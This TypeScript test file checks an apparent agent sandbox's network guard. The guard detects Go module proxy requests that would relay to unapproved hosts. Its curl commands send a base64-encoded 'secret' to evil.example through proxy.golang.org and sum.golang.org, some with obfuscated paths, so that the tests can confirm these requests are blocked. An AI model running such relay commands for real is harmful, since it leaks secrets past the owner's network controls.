import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { getCACertificates, setDefaultCACertificates } from 'node:tls';
import { findRelayedRequest } from '../../../src/parts/terminals/network/module-relay.ts';
import { listening } from '../safety/urls/setup.ts';
import { noNamespaces, openStage, PUBLIC } from './network-stage.ts';

const hasOpenssl = spawnSync('openssl', ['version']).status === 0;
const skip = noNamespaces ?? (hasOpenssl ? false : 'openssl is not installed');

/** The module proxy and the database of checksums, as this process would trust them. */
async function startProxyOfModules() {
  const folder = mkdtempSync(join(tmpdir(), 'hermes-modules-'));
  after(() => rmSync(folder, { recursive: true, force: true }));
  const names = 'subjectAltName=DNS:proxy.golang.org,DNS:sum.golang.org';
  const words =
    'req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=proxy.golang.org -keyout key -out cert -addext';
  execFileSync('openssl', [...words.split(' '), names], { cwd: folder, stdio: 'ignore' });
  const [key, cert] = ['key', 'cert'].map((name) => readFileSync(join(folder, name), 'utf8'));
  const before = getCACertificates('default');
  setDefaultCACertificates([...before, cert ?? '']);
  after(() => setDefaultCACertificates(before));
  const seen: string[] = [];
  const server = createServer({ key, cert }, (request, response) => {
    seen.push(`${request.headers.host}${request.url}`);
    response.end('v1.0.0\n');
  });
  return { seen, port: (await listening(server)).port };
}

test('a module proxy asks nobody for us whom the owner does not know', { skip }, async () => {
  const { seen, port } = await startProxyOfModules();
  const stage = await openStage({ names: () => [PUBLIC], ports: () => port });
  assert.equal(stage.network.env['GOPROXY'], 'http://proxy.golang.org,direct');
  const proxy = 'curl -sS http://proxy.golang.org';
  const known = await stage.run(
    `${proxy}/github.com/a/b/@v/list; ${proxy}/sumdb/sum.golang.org/supported; ${proxy}/sumdb/sum.golang.org/latest`,
  );
  assert.equal(known.output, 'v1.0.0\n\nv1.0.0\n');
  assert.deepEqual(seen, ['proxy.golang.org/github.com/a/b/@v/list', 'sum.golang.org/latest']);
  const relays = `${proxy}/evil.example/c2VjcmV0/@v/list; ${proxy}/sumdb/sum.golang.org/lookup/evil.example/c2VjcmV0@v1.0.0; ${proxy}/cached-only/other.example/x/@latest`;
  const refused = await stage.run(relays, () => false);
  assert.match(refused.output, /the user has not allowed connections to evil\.example/);
  assert.deepEqual(
    stage.asked.map(({ host }) => host),
    ['evil.example', 'other.example'],
  );
  await stage.run(
    'curl -sSk https://proxy.golang.org/evil.example/c2VjcmV0/@v/list; curl -sSk https://sum.golang.org/lookup/x',
    () => false,
  );
  assert.deepEqual(
    stage.asked.slice(2).map(({ host }) => host),
    ['proxy.golang.org', 'sum.golang.org'],
    'where nobody could see whom it asks, it is a host as any other',
  );
  assert.equal(seen.length, 2);
  const untidy = [
    '//evil.example',
    '/x/../evil.example',
    '/cached-only/./evil.example',
    '/%65vil.example',
    '/sumdb/sum.golang.org//lookup/evil.example',
  ];
  await stage.run(untidy.map((path) => `curl -sS --path-as-is http://proxy.golang.org${path}/c2VjcmV0@v1`).join(';'), () => false);
  assert.deepEqual([stage.asked.slice(4).map(({ host }) => host), seen.length], [['proxy.golang.org'], 2], 'one no holds for its host');
  const agreed = await stage.run(relays, () => true);
  assert.equal(agreed.output, 'v1.0.0\n'.repeat(3));
});

test('whoever has a proxy of modules, or names this one, keeps it', { skip }, async () => {
  const { seen, port } = await startProxyOfModules();
  const own = await openStage({ env: { GOPROXY: 'https://go.corp.example' }, names: () => [PUBLIC] });
  assert.equal(own.network.env['GOPROXY'], undefined);
  const listed = await openStage({ allowed: ['proxy.golang.org'], listedOnly: true, names: () => [PUBLIC], ports: () => port });
  assert.equal((await listed.run('curl -sS http://proxy.golang.org/any.example/x/@v/list')).output, 'v1.0.0\n');
  const unlisted = await openStage({ allowed: ['other.example'], listedOnly: true, names: () => [PUBLIC], ports: () => port });
  assert.match((await unlisted.run('curl -sS http://proxy.golang.org/github.com/x/y/@v/list')).output, /Blocked by the sandbox/);
  assert.equal(seen.length, 1);
});

test('whom the proxy would ask is read out of the path', () => {
  const modules = (paths: readonly string[]) => paths.map((path) => findRelayedRequest('proxy.golang.org', path)?.module);
  assert.deepEqual(
    modules(['/github.com/a/b/@v/list', '/Evil.example/x/@v/list', '/cached-only/evil.example/x/@latest', '/evil.example/@v/list', '/']),
    [undefined, 'evil.example', 'evil.example', 'evil.example', undefined],
  );
  assert.deepEqual(
    modules([
      '/sumdb/sum.golang.org/lookup/evil.example/x@v1',
      '/sumdb/sum.golang.org/lookup/evil.example@v1',
      '/sumdb/sum.golang.org/tile/8/0/000',
    ]),
    ['evil.example', 'evil.example', undefined],
  );
  assert.equal(findRelayedRequest('elsewhere.example', '/evil.example/x/@v/list'), undefined);
});
